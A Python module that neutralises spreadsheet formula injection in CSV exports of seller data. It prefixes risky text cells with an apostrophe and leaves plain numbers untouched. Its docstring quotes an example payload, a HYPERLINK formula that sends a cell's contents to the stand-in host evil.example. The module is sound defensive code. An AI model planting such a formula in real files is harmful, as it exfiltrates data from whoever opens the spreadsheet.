"""CSV files written for people to open in a spreadsheet, with formula injection neutralised.

Sellers supply titles, descriptions and brands, and a cell such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` runs when a spreadsheet opens the file.
Following OWASP's CSV-injection guidance, every text cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading apostrophe, which spreadsheets show as text.
Numbers stay numbers: numeric columns are untouched, and so is a text cell that is only a plain
number (``-5``, ``+3.5``), which no spreadsheet evaluates as a formula. Text cells are quoted, so
a carriage return or line break inside a title cannot split a row.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import IO, Any

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """One cell made inert: text starting with a formula prefix gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are neutralised."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(str(c)) for c in out.columns]
    return out


def people_csv_text(frame: pd.DataFrame) -> str:
    """The CSV text of ``frame`` for a spreadsheet (no index, formulas neutralised)."""
    return neutralise_frame(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)


def write_people_csv(frame: pd.DataFrame, target: str | Path | IO[str]) -> None:
    """Write ``frame`` as CSV for people to ``target`` (a path or a text buffer)."""
    neutralise_frame(frame).to_csv(target, index=False, quoting=csv.QUOTE_NONNUMERIC)
